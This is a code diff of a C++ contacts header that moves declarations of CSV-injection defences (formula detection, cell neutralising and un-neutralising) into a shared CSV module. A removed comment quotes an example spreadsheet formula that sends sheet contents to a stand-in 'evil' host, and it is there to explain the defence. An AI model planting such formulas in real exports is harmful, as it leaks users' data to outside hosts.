@@ -16,6 +16,7 @@
 #include <vector>
 
 #include "contacts/contacts.h"
+#include "core/csv.h"
 #include "core/diagnostic.h"
 #include "core/result.h"
 
@@ -24,22 +25,6 @@ namespace mamori {
 // Export neutralises every cell that a spreadsheet would run as a formula (OWASP "CSV
 // Injection"): see neutralize_cell.
 std::string contacts_to_csv(const ContactTable& table);
-
-// True when a cell starts with '=', '+', '-', '@', a tab or a carriage return: Excel and
-// LibreOffice take such a cell as a formula (=HYPERLINK("http://evil/?"&A1, …) sends the
-// sheet away). Full-width ＝＋－＠ are text to them and are left alone.
-bool starts_like_formula(std::string_view cell);
-
-// For export: "'" before a value that starts like a formula, so that spreadsheets show it
-// as text; also before a value that already starts with "'" followed by such a character
-// or another "'", so that unneutralize_cell gives every value back exactly.
-std::string neutralize_cell(std::string_view value);
-
-// For import: the trimmed cell with one neutralising "'" removed, or an Error (why the cell
-// is refused, and what to do) when it starts like a formula without one. Phone numbers
-// never start with '+' or '-' here (normalize_phone accepts only Japanese domestic
-// numbers), so nothing legitimate is lost.
-Result<std::string> unneutralize_cell(std::string_view cell);
 
 // Parses the CSV bytes of an import (pure). Problems carry row:column positions.
 ContactTable contacts_from_csv(std::string_view bytes, std::vector<Diagnostic>& out);
